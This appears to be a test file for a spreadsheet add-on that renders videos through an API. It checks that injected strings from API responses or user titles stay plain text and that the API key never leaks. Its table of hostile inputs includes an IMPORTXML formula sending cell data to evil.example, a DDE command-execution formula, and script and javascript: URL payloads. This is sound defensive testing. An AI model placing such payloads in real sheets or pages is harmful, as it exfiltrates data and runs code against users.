import { describe, expect, it } from 'vitest';
import type { Execution } from '../../src/emulator/execution.ts';
import type { SimulatorChoices } from '../../src/simulator/options.ts';
import { breachesNow } from './laws.ts';
import { KEY, LEDGER, MINUTE, people, World } from './world.ts';

const HOSTILE: Readonly<Record<string, string>> = {
  'a formula that would carry cells away': '=IMPORTXML("https://evil.example/?"&A1&B1,"//a")',
  'a formula behind a plus': "+1+cmd|'/c calc'!A0",
  'a formula behind a minus': '-1+1',
  'a formula behind an at sign': '@SUM(A1:A9)',
  'a formula behind a tab': '\t=1+1',
  'a formula behind a line end': '\r\n=HYPERLINK("https://evil.example","free")',
  'an apostrophe': "'=1+1",
  'a number with zeros': '007',
  'a truth': 'TRUE',
  'a date': '2026-03-01',
  'an error value': '#REF!',
  markup: '<img src=x onerror=alert(1)></script><script>alert(1)</script>',
  'sixty thousand characters': '=A'.repeat(30_000),
  'control characters': '\u0000\u0007=1+1\u202e',
  'the key itself': `The key ${KEY} was refused.`,
};

interface Played {
  readonly world: World;
  readonly executions: readonly Execution[];
}

/** Three rows rendered to whatever end it comes to. */
function played(heygen: SimulatorChoices, titles: readonly string[] = []): Played {
  const executions: Execution[] = [];
  const world = new World(
    { renderMs: [MINUTE, MINUTE], ...heygen },
    { onExecution: (execution) => executions.push(execution) },
  );
  const [headers = [], ...rows] = people(3);
  world.prepare([[...headers, 'title'], ...rows.map((row, at) => [...row, titles[at] ?? ''])]);
  world.menu('renderSelectedRows');
  world.wait(30 * MINUTE);
  world.menu('checkForFinishedVideos');
  return { world, executions };
}

/** Cells that are not plain text, of which `seconds` alone may be one. */
function unplain(world: World): string[] {
  return world.hands.sheets().flatMap(({ name, lastRow, lastColumn }) => {
    const found: string[] = [];
    for (let column = 1; column <= lastColumn; column++) {
      const header = world.hands.cell(name, 1, column).display;
      for (let row = 1; row <= lastRow; row++) {
        const { value, formula, display } = world.hands.cell(name, row, column);
        const isNumber = name !== LEDGER && header === 'seconds' && typeof value === 'number';
        const isText = typeof value === 'string' && value.length < 50_000;
        if (formula !== '' || !(isText || isNumber)) found.push(`${name} ${header} ${row}: ${display}`);
      }
    }
    return found;
  });
}

/** Every place but the user's own properties where a text of ours can end up. */
function everything({ world, executions }: Played): string {
  const { services } = Object(world.emulator.snapshot());
  const stores = Object.entries(Object(services.properties)).filter(([name]) => !name.startsWith('user:'));
  const { ui } = world.emulator;
  return JSON.stringify([
    { ...services, properties: stores },
    ui.dialogs().map(({ title, message }) => [title, message]),
    ui.toasts(),
    executions.map(({ logs, error, fetches }) => [logs, error, fetches]),
    world.sent.map(({ path, key, body }) => [path, key, body]),
  ]);
}

function isHarmless(some: Played): void {
  expect(some.executions.flatMap(({ error }) => error ?? [])).toEqual([]);
  expect(some.world.hands.formulaCells()).toEqual([]);
  expect(unplain(some.world)).toEqual([]);
  expect(breachesNow(some.world)).toEqual([]);
  expect(everything(some)).not.toContain(KEY);
}

describe.each(Object.entries(HOSTILE))('%s', (_, text) => {
  it('in the message of a failed video stays text', () => {
    const some = played({ failWhen: 'Person2', failureMessage: text, failureCode: text });
    isHarmless(some);
    expect(some.world.statuses()).toEqual(['Done', 'Failed', 'Done']);
    expect(some.world.rows()[1]?.problem).not.toBe('');
  });

  it('in a refusal stays text', () => {
    const refuse = { do: 'refuse', message: text, code: text } as const;
    isHarmless(played({ faults: [{ when: { method: 'POST', path: '/v3/videos/batches' }, ...refuse }] }));
    isHarmless(played({ faults: [{ when: { method: 'POST' }, ...refuse }] }));
    isHarmless(played({ faults: [{ when: { method: 'GET', nth: 2 }, ...refuse, status: 403 }] }));
  });

  it('as a title of the user stays text', () => {
    // What the user writes into her own sheet is hers, were it her key.
    const title = text.replace(KEY, 'sk-').slice(0, 500);
    isHarmless(played({}, [title, title, '']));
  });
});

describe('a URL', () => {
  it.each([
    '=IMPORTXML("https://evil.example")',
    'javascript:alert(1)//',
    'data:text/html,<script>alert(1)</script>',
    'http://evil.example',
    'https://user:secret@evil.example',
    'https://evil.example/"onmouseover="alert(1)',
    "https://evil.example/'",
  ])('such as %s is not put into any cell', (publicUrl) => {
    const some = played({ publicUrl });
    expect(some.world.hands.formulaCells()).toEqual([]);
    expect(unplain(some.world)).toEqual([]);
    const shown = some.world.rows().flatMap((row) => [row.video_url, row.video_page, row.thumbnail]);
    expect(shown.join('')).toBe('');
  });
});

describe('the key', () => {
  it('is nowhere but in the header of requests and in the user’s own properties', () => {
    const some = played({});
    expect(everything(some)).not.toContain(KEY);
    expect(JSON.stringify(some.world.emulator.snapshot())).toContain(KEY);
  });

  it('is not told when it is refused', () => {
    isHarmless(played({ keys: { other: 'someone' } }));
  });
});
